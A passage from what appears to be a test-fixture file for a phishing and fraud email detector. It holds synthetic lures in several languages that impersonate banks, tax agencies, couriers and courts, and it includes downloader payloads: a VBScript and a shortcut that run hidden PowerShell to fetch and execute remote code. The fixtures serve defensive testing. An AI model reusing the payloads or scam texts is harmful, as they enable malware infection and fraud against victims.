          { button: 'Accéder à mon dossier', href: 'https://ameli-dossier-maj.com/remboursement/?id=FR88412' },
          { small: "L'Assurance Maladie. Ceci est un message automatique." },
        ],
        { lang: 'fr' },
      ),
    }),
  },
  {
    // Picture-only: one linked image with Crédit Agricole's Sécuripass notice, no text at all.
    name: 'Crédit Agricole "Sécuripass expiré" as one linked picture, no text, throw-away domain',
    lang: 'fr',
    lure: 'image-only',
    expect: ['phishing'],
    raw: mail({
      from: 'Crédit Agricole <securite@ca-securipass-info.com>',
      to: 'j.lefebvre@free.fr',
      subject: "Votre dispositif Sécuripass expire aujourd'hui",
      date: 'Fri, 25 Apr 2025 18:03:20 +0200',
      messageId: '20250425160320.9b1f@ca-securipass-info.com',
      dkim: ['ca-securipass-info.com:k1'],
      relay: 'mta.ca-securipass-info.com [203.0.113.103]',
      auth: THROWAWAY,
      body: multipart('related', [
        html(
          '<html><body style="margin:0"><center><a href="https://ca-securipass-renouvellement.com/authentification"><img src="cid:securipass@ca" width="600" height="640" border="0" alt="Credit Agricole"></a></center></body></html>',
        ),
        inlineImage('securipass@ca', 'securipass.jpg', JPEG),
      ]),
    }),
  },
  {
    // ING "your debit card expires, request a new one" from a throw-away .nl look-alike.
    name: 'ING "uw betaalpas verloopt, vraag tijdig een nieuwe aan" from a throw-away look-alike',
    lang: 'nl',
    lure: 'bank',
    expect: ['phishing'],
    raw: mail({
      from: 'ING <noreply@ing-betaalpas-vervangen.nl>',
      to: 'p.vandijk@ziggo.nl',
      subject: 'Uw betaalpas verloopt binnenkort',
      date: 'Mon, 12 May 2025 11:45:38 +0200',
      messageId: '20250512094538.3e7a@ing-betaalpas-vervangen.nl',
      dkim: ['ing-betaalpas-vervangen.nl:default'],
      relay: 'mail.ing-betaalpas-vervangen.nl [203.0.113.58]',
      auth: THROWAWAY,
      body: document(
        [
          { heading: 'Beste klant,' },
          'Uw huidige betaalpas verloopt op 31 mei 2025. Om te voorkomen dat u tijdelijk niet kunt pinnen of betalen, vragen wij u binnen 5 dagen een nieuwe pas aan en uw gegevens te bevestigen.',
          { button: 'Nieuwe betaalpas aanvragen', href: 'https://ing-paspoort-vervanging.com/aanvragen' },
          { small: 'Met vriendelijke groet, ING Klantenservice.' },
        ],
        { lang: 'nl' },
      ),
    }),
  },
  {
    // DigiD "your account will be deactivated" from Outlook.com.
    name: 'DigiD "uw account wordt gedeactiveerd, bevestig uw gegevens" from Outlook.com',
    lang: 'nl',
    lure: 'authority',
    expect: ['phishing'],
    raw: mail({
      from: 'DigiD <digid.beheer.nl@outlook.com>',
      to: 'm.bakker1962@kpnmail.nl',
      subject: 'Uw DigiD wordt gedeactiveerd',
      date: 'Wed, 4 Jun 2025 16:27:09 +0000',
      messageId: 'DB9PR02MB7011E2F3A4B5C6D7E8F9A0B1C2D3E4F5@DB9PR02MB7011.eurprd02.prod.outlook.com',
      ...OUTLOOK,
      body: document(
        [
          'Geachte heer/mevrouw,',
          'Uw DigiD is al meer dan 12 maanden niet gebruikt. Volgens de nieuwe richtlijnen wordt uw DigiD binnen 48 uur gedeactiveerd als u uw gegevens niet bevestigt.',
          { button: 'DigiD behouden', href: 'https://digid-verlengen.info/inloggen' },
          { small: 'Logius, Ministerie van Binnenlandse Zaken en Koninkrijksrelaties' },
        ],
        { lang: 'nl' },
      ),
    }),
  },
  // ================================================================ pt-BR
  {
    name: 'Receita Federal "CPF com pendência na declaração IRPF 2025, regularize em 48h" from a throw-away domain',
    lang: 'pt-BR',
    lure: 'tax',
    expect: ['phishing'],
    raw: mail({
      from: 'Receita Federal <atendimento@receita-regularizacao.com>',
      to: 'carlos.henrique.souza@gmail.com',
      subject: 'Aviso: seu CPF possui pendências na Declaração IRPF 2025',
      date: 'Tue, 3 Jun 2025 09:12:40 -0300',
      messageId: '20250603121240.4b7c@receita-regularizacao.com',
      dkim: ['receita-regularizacao.com:default'],
      relay: 'mail.receita-regularizacao.com [203.0.113.14]',
      auth: THROWAWAY,
      body: document(
        [
          { heading: 'Ministério da Fazenda — Receita Federal' },
          'Prezado(a) contribuinte, identificamos divergências na sua Declaração de Imposto de Renda 2025. Seu CPF será suspenso caso a situação não seja regularizada em até 48 horas.',
          {
            rows: [
              ['Situação', 'PENDENTE DE REGULARIZAÇÃO'],
              ['Protocolo', 'IRPF-2025-88412'],
            ],
          },
          { button: 'Regularizar meu CPF', href: 'https://regularize-cpf-receita.com/consulta' },
          { small: 'Receita Federal do Brasil. Não responda este e-mail.' },
        ],
        { lang: 'pt-BR' },
      ),
    }),
  },
  {
    name: 'Detran-SP "multa com 40% de desconto, pague via PIX hoje" from a throw-away domain',
    lang: 'pt-BR',
    lure: 'authority',
    expect: ['phishing', 'fraud'],
    raw: mail({
      from: 'DETRAN-SP <notificacao@detran-multas-online.com>',
      to: 'fernanda.lima88@hotmail.com',
      subject: 'Notificação de Autuação: infração de trânsito pendente',
      date: 'Thu, 12 Jun 2025 14:08:22 -0300',
      messageId: '20250612170822.1f9a@detran-multas-online.com',
      dkim: ['detran-multas-online.com:default'],
      relay: 'srv1.detran-multas-online.com [203.0.113.33]',
      auth: THROWAWAY,
      body: document(
        [
          { heading: 'Notificação de Autuação' },
          {
            rows: [
              ['Infração', 'Transitar em velocidade superior à máxima permitida'],
              ['Valor', 'R$ 195,23'],
              ['Com desconto', 'R$ 117,14 (pagamento até hoje)'],
            ],
          },
          'Evite a suspensão da sua CNH e a inclusão na dívida ativa. Pague com 40% de desconto via PIX até o fim do dia.',
          { button: 'Consultar e pagar multa', href: 'https://detran-sp-multas.online/pagar?placa=FNL8H42' },
          { small: 'Departamento Estadual de Trânsito de São Paulo' },
        ],
        { lang: 'pt-BR' },
      ),
    }),
  },
  {
    name: 'Serasa "Limpa Nome: dívida de R$ 3.482,17 por R$ 278,57 via PIX, só hoje" through SendGrid',
    lang: 'pt-BR',
    lure: 'bank',
    expect: ['phishing', 'fraud'],
    raw: mail({
      from: 'Serasa Limpa Nome <contato@serasa-acordo-facil.com>',
      to: 'joao.pedro.alves@yahoo.com.br',
      subject: 'João, sua dívida de R$ 3.482,17 pode ser quitada por R$ 278,57',
      date: 'Mon, 23 Jun 2025 10:30:00 -0300',
      messageId: 'Wm3pR8vT2xN1wL5bC7dK4s@geopod-ismtpd-11',
      dkim: ['serasa-acordo-facil.com:s1', 'sendgrid.info:smtpapi'],
      returnPath: 'bounces+38812204-7b2c-joao.pedro.alves=yahoo.com.br@em2291.serasa-acordo-facil.com',
      relay: 'o5.ptr8812.serasa-acordo-facil.com [149.72.33.5]',
      auth: THROWAWAY,
      headers: sendgridHeaders('Rk2vN8mT4pX1wQ7yZ3bC5dF9hJ0lL6nPs'),
      body: document(
        [
          { heading: 'Feirão Limpa Nome: 92% de desconto' },
          'Olá João, encontramos uma dívida em seu CPF no valor de R$ 3.482,17. Hoje você pode quitar por apenas R$ 278,57 à vista no PIX e ter o nome limpo em até 24 horas.',
          'Oferta válida somente até as 23h59 de hoje.',
          { button: 'Ver acordo e pagar no PIX', href: 'https://u38812204.ct.sendgrid.net/ls/click?upn=u001.Zx8-2BpQ4mT7wR1yZ3bC5dF8hJ0lL6nP-2Bs3' },
          { small: 'Serasa S.A. — Av. das Nações Unidas, São Paulo' },
        ],
        { lang: 'pt-BR' },
      ),
    }),
  },
  {
    name: 'Correios "encomenda taxada, pague R$ 47,90 de imposto de importação" from a throw-away domain',
    lang: 'pt-BR',
    lure: 'parcel',
    expect: ['phishing', 'fraud'],
    raw: mail({
      from: 'Correios <rastreamento@correios-taxacao.com>',
      to: 'ana.beatriz.rocha@gmail.com',
      subject: 'Sua encomenda NL884127335BR foi taxada',
      date: 'Wed, 2 Jul 2025 08:41:17 -0300',
      messageId: '20250702114117.6d3b@correios-taxacao.com',
      dkim: ['correios-taxacao.com:default'],
      relay: 'mail.correios-taxacao.com [203.0.113.77]',
      auth: THROWAWAY,
      body: document(
        [
          { heading: 'Objeto aguardando pagamento' },
          {
            rows: [
              ['Objeto', 'NL884127335BR'],
              ['Origem', 'China'],
              ['Imposto de importação', 'R$ 47,90'],
            ],
          },
          'Sua encomenda está retida na unidade de fiscalização aduaneira. Efetue o pagamento em até 3 dias úteis ou o objeto será devolvido ao remetente.',
          { button: 'Pagar taxa via PIX', href: 'https://correios-taxacao.com/pagamento/NL884127335BR' },
          { small: 'Correios. Rastreamento de objetos.' },
        ],
        { lang: 'pt-BR' },
      ),
    }),
  },
  {
    // Brazilian banking-trojan lure: a "PIX receipt" zip holding a VBScript downloader.
    name: '"Comprovante PIX R$ 1.850,00" from Outlook.com with a zip holding a .pdf.vbs downloader',
    lang: 'pt-BR',
    lure: 'malware',
    expect: ['malware', 'phishing'],
    raw: mail({
      from: 'Financeiro <financeiro.pagamentos0921@outlook.com>',
      to: 'contato@padariasaojose.com.br',
      subject: 'Comprovante de transferência PIX - R$ 1.850,00',
      date: 'Fri, 18 Jul 2025 15:22:48 +0000',
      messageId: 'CP6P284MB2211A1B2C3D4E5F6A7B8C9D0E1F2A3B4@CP6P284MB2211.BRAP284.PROD.OUTLOOK.COM',
      ...OUTLOOK,
      body: multipart('mixed', [
        plain(
          'Boa tarde,\n\nSegue em anexo o comprovante do PIX referente ao pagamento do pedido.\n\nQualquer dúvida estamos à disposição.\n\nAtt,\nSetor Financeiro',
        ),
        attachment(
          'Comprovante_PIX_1850.zip',
          'application/zip',
          zip({
            'Comprovante_PIX_1850.pdf.vbs':
              'Set s = CreateObject("WScript.Shell")\r\ns.Run "powershell -w hidden -c iwr https://cdn-comprovantes.top/a.msi -OutFile $env:TEMP\\a.msi; msiexec /i $env:TEMP\\a.msi /qn", 0\r\n',
          }),
        ),
      ]),
    }),
  },
  {
    // Nota fiscal lure: a download link for "DANFE and XML" that serves an installer.
    name: '"Nota Fiscal Eletrônica nº 184552 disponível" with a download link for the DANFE on the sender\'s domain',
    lang: 'pt-BR',
    lure: 'malware',
    expect: ['malware', 'phishing'],
    todo: "clean/none: auth_results_missing; the pt-BR 'NF-e emitida, baixe o DANFE e XML' download lure (download.php on a throw-away domain) is not recognised",
    raw: mail({
      from: 'NF-e Emissor <nfe@emissor-notafiscal.net>',
      to: 'compras@metalurgicavitoria.com.br',
      subject: 'NF-e 000.184.552 emitida - DANFE disponível para download',
      date: 'Mon, 21 Jul 2025 11:03:09 -0300',
      messageId: '20250721140309.8c4e@emissor-notafiscal.net',
      dkim: ['emissor-notafiscal.net:default'],
      relay: 'smtp.emissor-notafiscal.net [203.0.113.45]',
      auth: THROWAWAY,
      body: document(
        [
          'Prezado cliente,',
          'Informamos que a Nota Fiscal Eletrônica nº 000.184.552 foi emitida em seu CNPJ. O DANFE e o arquivo XML estão disponíveis para download pelo link abaixo.',
          { button: 'Baixar DANFE e XML', href: 'https://emissor-notafiscal.net/danfe/download.php?nf=184552' },
          { small: 'Documento emitido por ME ou EPP optante pelo Simples Nacional.' },
        ],
        { lang: 'pt-BR' },
      ),
    }),
  },
  {
    name: 'Nubank spoofed: "compra não reconhecida de R$ 2.349,90, conteste agora"',
    lang: 'pt-BR',
    lure: 'bank',
    expect: ['phishing'],
    raw: mail({
      from: 'Nubank <todomundo@nubank.com.br>',
      to: 'lucas.martins.sp@gmail.com',
      subject: 'Compra de R$ 2.349,90 aprovada no seu cartão. Não reconhece?',
      date: 'Sat, 9 Aug 2025 22:14:51 -0300',
      messageId: '20250810011451.3a2c@vps-19933.cloudhost-br.net',
      returnPath: 'www-data@vps-19933.cloudhost-br.net',
      relay: 'vps-19933.cloudhost-br.net [198.51.100.199]',
      auth: SPOOFED,
      body: document(
        [
          { heading: 'Compra aprovada' },
          {
            rows: [
              ['Estabelecimento', 'MAGAZINE LUIZA *ONLINE'],
              ['Valor', 'R$ 2.349,90'],
              ['Cartão', 'final 7731'],
            ],
          },
          'Se você não reconhece esta compra, conteste agora para bloquear o cartão e receber o estorno. Após 2 horas a contestação não será mais possível.',
          { button: 'Não reconheço esta compra', href: 'https://nubank-contestacao.com/app/contestar' },
          { small: 'Nu Pagamentos S.A. — Instituição de Pagamento.' },
        ],
        { lang: 'pt-BR' },
      ),
    }),
  },
  {
    // Picture-only Itaú iToken lure.
    name: 'Itaú "iToken expirado, reative" as one linked picture from a throw-away domain',
    lang: 'pt-BR',
    lure: 'image-only',
    expect: ['phishing'],
    raw: mail({
      from: 'Itaú Unibanco <comunicado@itau-token-seguranca.com>',
      to: 'marcia.ferreira@uol.com.br',
      subject: 'Seu iToken expirou – reative para continuar usando o app',
      date: 'Tue, 19 Aug 2025 07:35:02 -0300',
      messageId: '20250819103502.5e1d@itau-token-seguranca.com',
      dkim: ['itau-token-seguranca.com:k1'],
      relay: 'mta1.itau-token-seguranca.com [203.0.113.171]',
      auth: THROWAWAY,
      body: multipart('related', [
        html(
          '<html><body style="margin:0"><center><a href="https://itau-reativacao-itoken.com/acesso"><img src="cid:itoken@itau" width="600" height="700" border="0" alt="Itau"></a></center></body></html>',
        ),
        inlineImage('itoken@itau', 'itoken.jpg', JPEG),
      ]),
    }),
  },
  {
    name: 'Caixa "saque FGTS de R$ 1.412,00 liberado, confirme seus dados" from a throw-away domain',
    lang: 'pt-BR',
    lure: 'authority',
    expect: ['phishing', 'fraud'],
    raw: mail({
      from: 'CAIXA <fgts@caixa-beneficios-saque.com>',
      to: 'rodrigues.patricia72@gmail.com',
      subject: 'Saque FGTS liberado: R$ 1.412,00 disponível para você',
      date: 'Thu, 28 Aug 2025 12:02:33 -0300',
      messageId: '20250828150233.2b8f@caixa-beneficios-saque.com',
      dkim: ['caixa-beneficios-saque.com:default'],
      relay: 'mail.caixa-beneficios-saque.com [203.0.113.208]',
      auth: THROWAWAY,
      body: document(
        [
          { heading: 'Você tem valores disponíveis para saque' },
          'Olá, consta em seu CPF um saldo de FGTS de R$ 1.412,00 disponível para saque imediato. Para receber na sua conta, confirme seus dados cadastrais e bancários até 30/08.',
          { button: 'Confirmar dados e sacar', href: 'https://caixa-beneficios-saque.com/fgts/consulta' },
          { small: 'CAIXA Econômica Federal' },
        ],
        { lang: 'pt-BR' },
      ),
    }),
  },
  {
    // Court summons with an HTML attachment that sends the browser to a zip download.
    name: 'Tribunal "intimação judicial eletrônica, processo nº 0012874" with an HTML attachment redirecting to a zip',
    lang: 'pt-BR',
    lure: 'html-attachment',
    expect: ['phishing', 'malware'],
    raw: mail({
      from: 'Tribunal de Justiça - Intimações <intimacao@tjsp-intimacoes.com>',
      to: 'roberto.almeida@almeidaconstrucoes.com.br',
      subject: 'Intimação Judicial Eletrônica - Processo nº 0012874-33.2025.8.26.0100',
      date: 'Mon, 8 Sep 2025 09:48:15 -0300',
      messageId: '20250908124815.9a4c@tjsp-intimacoes.com',
      dkim: ['tjsp-intimacoes.com:default'],
      relay: 'mail.tjsp-intimacoes.com [203.0.113.119]',
      auth: THROWAWAY,
      body: multipart('mixed', [
        document(
          [
            'Fica Vossa Senhoria INTIMADO(A) a comparecer à audiência referente ao processo em epígrafe. O documento da intimação segue em anexo.',
            'O não comparecimento poderá acarretar revelia e demais sanções previstas em lei.',
            { small: 'Poder Judiciário — Tribunal de Justiça do Estado de São Paulo' },
          ],
          { lang: 'pt-BR' },
        ),
        attachment(
          'Intimacao_Processo_0012874.html',
          'text/html',
          redirectPage(
            'Intimação',
            'Carregando documento…',
            'https://tjsp-intimacoes.com/docs/Intimacao_0012874.zip',
            'roberto.almeida@almeidaconstrucoes.com.br',
          ),
        ),
      ]),
    }),
  },
  {
    name: 'gov.br "sua conta será suspensa, confirme sua identidade" from a throw-away domain',
    lang: 'pt-BR',
    lure: 'authority',
    expect: ['phishing'],
    raw: mail({
      from: 'gov.br <naoresponda@govbr-validacao.com>',
      to: 'silvia.nascimento@bol.com.br',
      subject: 'Sua conta gov.br será suspensa em 24 horas',
      date: 'Wed, 17 Sep 2025 16:20:44 -0300',
      messageId: '20250917192044.7c1e@govbr-validacao.com',
      dkim: ['govbr-validacao.com:default'],
      relay: 'mail.govbr-validacao.com [203.0.113.222]',
      auth: THROWAWAY,
      body: document(
        [
          { heading: 'Validação de identidade obrigatória' },
          'Identificamos inconsistências nos dados da sua conta gov.br nível prata. Para evitar a suspensão do acesso aos serviços públicos digitais e ao Meu INSS, valide sua identidade em até 24 horas.',
          { button: 'Validar minha conta', href: 'https://govbr-validacao.com/sso/login' },
          { small: 'Governo Federal — gov.br' },
        ],
        { lang: 'pt-BR' },
      ),
    }),
  },
  {
    // Loyalty points "expiring" from an accountant's hijacked mailbox.
    name: 'Livelo "38.400 pontos expiram hoje, resgate" from an accountant\'s hijacked mailbox',
    lang: 'pt-BR',
    lure: 'prize',
    expect: ['phishing', 'fraud'],
    raw: mail({
      from: 'Livelo <contato@contabilidadesantos.com.br>',
      to: 'eduardo.costa@terra.com.br',
      subject: 'Eduardo, seus 38.400 pontos Livelo expiram hoje',
      date: 'Fri, 26 Sep 2025 13:15:27 -0300',
      messageId: '4d5e6f7a8b9c4d0e@contabilidadesantos.com.br',
      dkim: ['contabilidadesantos.com.br:default'],
      relay: 'mail.contabilidadesantos.com.br [198.51.100.150]',
      body: document(
        [
          { heading: 'Seus pontos vão expirar' },
          'Olá Eduardo, você tem 38.400 pontos Livelo que expiram hoje às 23h59. Troque agora por produtos como Smart TV 50", iPhone ou air fryer sem pagar nada a mais.',
          { button: 'Resgatar meus pontos', href: 'https://livelo-resgate-pontos.shop/catalogo?id=38400' },
          { small: 'Livelo S.A.' },
        ],
        { lang: 'pt-BR' },
      ),
    }),
  },
  // ================================================================ es
  {
    name: 'Agencia Tributaria "devolución de 312,48 € pendiente, confirme sus datos" from a throw-away domain',
    lang: 'es',
    lure: 'tax',
    expect: ['phishing'],
    raw: mail({
      from: 'Agencia Tributaria <notificaciones@agenciatributaria-devolucion.com>',
      to: 'javier.moreno.g@gmail.com',
      subject: 'Tiene una devolución pendiente de 312,48 €',
      date: 'Tue, 13 May 2025 10:25:11 +0200',
      messageId: '20250513082511.3f8d@agenciatributaria-devolucion.com',
      dkim: ['agenciatributaria-devolucion.com:default'],
      relay: 'mail.agenciatributaria-devolucion.com [203.0.113.29]',
      auth: THROWAWAY,
      body: document(
        [
          { heading: 'Agencia Tributaria — Devolución de la Renta 2024' },
          'Estimado contribuyente, tras el cálculo de su declaración le corresponde una devolución de 312,48 €. No hemos podido efectuar el pago porque sus datos bancarios son incorrectos.',
          'Confirme sus datos en un plazo de 48 horas para recibir la devolución.',
          { button: 'Solicitar devolución', href: 'https://agenciatributaria-devolucion.com/sede/devolucion' },
          { small: 'Agencia Estatal de Administración Tributaria' },
        ],
        { lang: 'es' },
      ),
    }),
  },
  {
    // AEAT notification from a gestoría's hijacked mailbox, zip holding a shortcut downloader.
    name: 'AEAT "notificación de requerimiento" from a gestoría\'s hijacked mailbox, zip holding a .pdf.lnk',
    lang: 'es',
    lure: 'malware',
    expect: ['malware', 'phishing'],
    raw: mail({
      from: 'Agencia Tributaria <administracion@gestoria-lopezruiz.es>',
      to: 'facturacion@talleresmartin.es',
      subject: 'Notificación AEAT: requerimiento de información ref. 2025GR88412',
      date: 'Wed, 21 May 2025 12:44:03 +0200',
      messageId: '6e7f8a9b0c1d4e2f@gestoria-lopezruiz.es',
      dkim: ['gestoria-lopezruiz.es:default'],
      relay: 'mail.gestoria-lopezruiz.es [198.51.100.174]',
      body: multipart('mixed', [
        plain(
          'Estimado contribuyente:\n\nSe le notifica requerimiento de información relativo al Impuesto sobre el Valor Añadido. Encontrará el documento en el archivo adjunto.\n\nDispone de 10 días hábiles para atender el requerimiento.\n\nAgencia Tributaria',
        ),
        attachment(
          'Notificacion_AEAT_2025GR88412.zip',
          'application/zip',
          zip({
            'Notificacion_AEAT_2025GR88412.pdf.lnk': shortcut(
              '..\\..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
              '-w hidden -c "iwr https://aeat-docs.top/n.ps1 | iex"',
            ),
          }),
        ),
      ]),
    }),
  },
  {
    name: 'DGT "multa pendiente, 50% de descuento pagando hoy" from a throw-away domain',
    lang: 'es',
    lure: 'authority',
    expect: ['phishing', 'fraud'],
    raw: mail({
      from: 'DGT - Dirección General de Tráfico <notificaciones@dgt-sanciones-online.com>',
      to: 'laura.sanchez.p@hotmail.es',
      subject: 'Notificación de sanción pendiente de pago - Expediente 2025/884127',
      date: 'Thu, 5 Jun 2025 09:02:50 +0200',
      messageId: '20250605070250.1a6e@dgt-sanciones-online.com',
      dkim: ['dgt-sanciones-online.com:default'],
      relay: 'mail.dgt-sanciones-online.com [203.0.113.140]',
      auth: THROWAWAY,
      body: document(
        [
          { heading: 'Sanción pendiente de pago' },
          {
            rows: [
              ['Expediente', '2025/884127'],
              ['Importe', '200,00 €'],
              ['Con reducción del 50%', '100,00 €'],
            ],
          },
          'Si no realiza el pago en el plazo indicado, se procederá al cobro por vía ejecutiva con recargo del 20% y a la retirada de puntos.',
          { button: 'Pagar multa', href: 'https://dgt-sanciones-online.com/pago/2025-884127' },
          { small: 'Ministerio del Interior — Dirección General de Tráfico' },
        ],
        { lang: 'es' },
      ),
    }),
  },
  {
    name: 'Correos "paquete retenido, pague 1,79 € de gastos de aduana" from a throw-away domain',
    lang: 'es',
    lure: 'parcel',
    expect: ['phishing', 'fraud'],
    raw: mail({
      from: 'Correos <envios@correos-aduana-pago.com>',
      to: 'marta.gil@yahoo.es',
      subject: 'Su envío está retenido: pago de gastos pendiente',
      date: 'Mon, 16 Jun 2025 18:30:12 +0200',
      messageId: '20250616163012.2d9b@correos-aduana-pago.com',
      dkim: ['correos-aduana-pago.com:default'],
      relay: 'mail.correos-aduana-pago.com [203.0.113.54]',
      auth: THROWAWAY,
      body: document(
        [
          { heading: 'Su paquete está en espera' },
          'Su paquete con número de seguimiento PQ44YA0731288 no ha podido ser entregado porque hay gastos de aduana pendientes de pago (1,79 €).',
          'Si no paga en 48 horas, el paquete será devuelto al remitente.',
          { button: 'Pagar y programar entrega', href: 'https://correos-aduana-pago.com/seguimiento/PQ44YA0731288' },
          { small: 'Sociedad Estatal Correos y Telégrafos, S.A.' },
        ],
        { lang: 'es' },
      ),
    }),
  },
  {
    name: 'BBVA spoofed: "hemos bloqueado su tarjeta por seguridad, verifique su identidad"',
    lang: 'es',
    lure: 'bank',
    expect: ['phishing'],
    raw: mail({
      from: 'BBVA <avisos@bbva.es>',
      to: 'sergio.navarro77@gmail.com',
      subject: 'Su tarjeta ha sido bloqueada temporalmente',
      date: 'Tue, 24 Jun 2025 06:55:19 +0200',
      messageId: '20250624045519.8f3a@mail-server-2231.vps-hosting.es',
      returnPath: 'apache@mail-server-2231.vps-hosting.es',
      relay: 'mail-server-2231.vps-hosting.es [198.51.100.212]',
      auth: SPOOFED,
      body: document(
        [
          'Estimado cliente:',
          'Hemos detectado un intento de acceso no autorizado a su banca online y, por su seguridad, hemos bloqueado temporalmente su tarjeta.',
          'Para desbloquearla, verifique su identidad a través del siguiente enlace. Si no lo hace en 24 horas, su tarjeta será cancelada.',
          { button: 'Verificar identidad', href: 'https://bbva-desbloqueo-tarjeta.com/es/acceso' },
          { small: 'BBVA. Por favor, no responda a este correo.' },
        ],
        { lang: 'es' },
      ),
    }),
  },
  {
    // Santander: the body has no link, the link is inside the attached PDF "comunicado".
    name: 'Santander "actualización obligatoria de su firma digital" with the link inside an attached PDF',
    lang: 'es',
    lure: 'bank',
    expect: ['phishing'],
    raw: mail({
      from: 'Banco Santander <comunicaciones@santander-clientes-aviso.com>',
      to: 'isabel.romero@telefonica.net',
      subject: 'Comunicado importante: actualización de su firma digital',
      date: 'Wed, 9 Jul 2025 11:11:46 +0200',
      messageId: '20250709091146.5b2e@santander-clientes-aviso.com',
      dkim: ['santander-clientes-aviso.com:default'],
      relay: 'mail.santander-clientes-aviso.com [203.0.113.186]',
      auth: THROWAWAY,
      body: multipart('mixed', [
        plain(
          'Estimado/a cliente:\n\nLe adjuntamos un comunicado importante sobre la actualización obligatoria de su firma digital. Léalo con atención.\n\nAtentamente,\nBanco Santander',
        ),
        attachment(
          'Comunicado_Santander.pdf',
          'application/pdf',
          textPdf(
            [
              'Banco Santander - Comunicado',
              'Actualizacion obligatoria de firma digital',
              'Debe actualizar su firma digital antes del 15/07/2025 para seguir operando.',
              'Pulse aqui para actualizar: santander-firma-digital.com',
            ],
            'https://santander-firma-digital.com/actualizar',
          ),
        ),
      ]),
    }),
  },
  {
    name: 'Seguridad Social "tiene una prestación pendiente, acceda con Cl@ve" from a throw-away domain',
    lang: 'es',
    lure: 'authority',
    expect: ['phishing'],
    raw: mail({
      from: 'Seguridad Social <avisos@seg-social-tramites.com>',
      to: 'antonio.herrera@gmail.com',
      subject: 'Aviso: prestación pendiente de cobro',
      date: 'Thu, 17 Jul 2025 13:37:24 +0200',
      messageId: '20250717113724.4e1f@seg-social-tramites.com',
      dkim: ['seg-social-tramites.com:default'],
      relay: 'mail.seg-social-tramites.com [203.0.113.64]',
      auth: THROWAWAY,
      body: document(
        [
          { heading: 'Sede Electrónica de la Seguridad Social' },
          'Le informamos de que tiene una prestación pendiente de cobro por importe de 487,20 €. Para recibirla debe actualizar sus datos bancarios identificándose con Cl@ve o certificado digital.',
          { button: 'Acceder a mi expediente', href: 'https://seg-social-tramites.com/sede/acceso-clave' },
          { small: 'Ministerio de Inclusión, Seguridad Social y Migraciones' },
        ],
        { lang: 'es' },
      ),
    }),
  },
  {
    name: 'Iberdrola "cobro duplicado, le devolvemos 84,60 €" asking for card details, from a throw-away domain',
    lang: 'es',
    lure: 'account-alert',
    expect: ['phishing', 'fraud'],
    raw: mail({
      from: 'Iberdrola Clientes <facturacion@iberdrola-reembolsos.com>',
      to: 'pilar.ortiz@gmail.com',
      subject: 'Reembolso por cobro duplicado en su última factura',
      date: 'Mon, 28 Jul 2025 17:49:02 +0200',
      messageId: '20250728154902.6c3a@iberdrola-reembolsos.com',
      dkim: ['iberdrola-reembolsos.com:default'],
      relay: 'mail.iberdrola-reembolsos.com [203.0.113.96]',
      auth: THROWAWAY,
      body: document(
        [
          'Estimado/a cliente:',
          'Hemos detectado un cobro duplicado en su última factura de luz. Le corresponde un reembolso de 84,60 €.',
          'Para recibirlo en su tarjeta, introduzca los datos de la tarjeta con la que realizó el pago.',
          { button: 'Solicitar reembolso', href: 'https://iberdrola-reembolsos.com/clientes/reembolso' },
          { small: 'Iberdrola Clientes, S.A.U.' },
        ],
        { lang: 'es' },
      ),
    }),
  },
  // ================================================================ fraud
  {
    name: 'UN compensation fund "your ATM card of $2.5 million is ready" from Gmail, reply to another free mailbox',
    lang: 'en',
    lure: 'advance-fee',
    expect: ['fraud'],
    raw: mail({
      from: 'United Nations Compensation Unit <uncompensation.office2025@gmail.com>',
      to: 'w.harrington@bellsouth.net',
      replyTo: 'Dr. Michael Adeyemi <dr.m.adeyemi@mail.com>',
      subject: 'ATTENTION BENEFICIARY: YOUR COMPENSATION PAYMENT',
      date: 'Sat, 1 Feb 2025 04:12:30 +0000',
      messageId: 'CAF8pN2xV4mR7tK1wQ9bL3cG6dH5sY0a_uN2pX@mail.gmail.com',
      ...GMAIL,
      body: gmailBody(
        'Attention Beneficiary,\n\nThis is to inform you that the United Nations in conjunction with the World Bank has approved the sum of $2,500,000.00 USD as compensation for victims of internet fraud. Your email was selected among the beneficiaries.\n\nYour ATM card has been loaded and is ready for delivery. To receive it, send your full name, home address, phone number and a copy of your ID, and pay the delivery and insurance fee of $285 only.\n\nContact Dr. Michael Adeyemi at dr.m.adeyemi@mail.com immediately.\n\nRegards,\nMrs. Helen Carter\nUN Compensation Unit',
      ),
    }),
  },
  {
    name: 'Lawyer "next of kin of my late client, $8.5 million" from Outlook.com',
    lang: 'en',
    lure: 'advance-fee',
    expect: ['fraud'],
    raw: mail({
      from: 'Barrister James Okafor <barr.jamesokafor.chambers@outlook.com>',
      to: 'thomas.whitaker@aol.com',
      subject: 'Confidential: inheritance claim of late Mr. Robert Whitaker',
      date: 'Tue, 18 Mar 2025 09:40:16 +0000',
      messageId: 'DU2PR08MB7301F3A4B5C6D7E8F9A0B1C2D3E4F5A6@DU2PR08MB7301.eurprd08.prod.outlook.com',
      ...OUTLOOK,
      body: plain(
        'Dear Thomas,\n\nI am Barrister James Okafor, personal attorney to the late Mr. Robert Whitaker, an oil contractor who died with his family in a car accident in 2021. He left a deposit of US$8,500,000 (Eight Million Five Hundred Thousand US Dollars) with a bank here, and the bank has asked me to present his next of kin or the funds will be confiscated.\n\nSince you share the same surname, I am seeking your consent to present you as the beneficiary. All legal documents will be provided and the transaction is 100% risk free. We will share the funds 50/50.\n\nPlease reply with your full names, private phone number and address so that we can proceed.\n\nBest regards,\nBarrister James Okafor',
      ),
    }),
  },
  {
    name: 'Lottery "your e-mail won €950,000 in the EuroMillions online promotion" from a throw-away domain',
    lang: 'en',
    lure: 'prize',
    expect: ['fraud'],
    raw: mail({
      from: 'EuroMillions International <claims@euromillions-award-dept.com>',
      to: 'brenda.holt@btinternet.com',
      replyTo: 'Claims Agent <claims.agent.fernandez@gmx.com>',
      subject: 'Winning Notification: Ref EM/2025/0884127',
      date: 'Fri, 4 Apr 2025 13:58:44 +0000',
      messageId: '20250404135844.9e2d@euromillions-award-dept.com',
      dkim: ['euromillions-award-dept.com:default'],
      relay: 'mail.euromillions-award-dept.com [203.0.113.73]',
      auth: THROWAWAY,
      body: document([
        { heading: 'Congratulations!' },
        'Your e-mail address attached to ticket number 56475600545 drew the lucky numbers in the EuroMillions International online promotion, and you have won the sum of €950,000.00 (Nine Hundred and Fifty Thousand Euros).',
        {
          rows: [
            ['Reference', 'EM/2025/0884127'],
            ['Batch', '074/11/ZY369'],
          ],
        },
        'To claim your prize, contact our claims agent Mr. Luis Fernandez with your full name, address, age, occupation and telephone number. Keep this award confidential until your claim has been processed.',
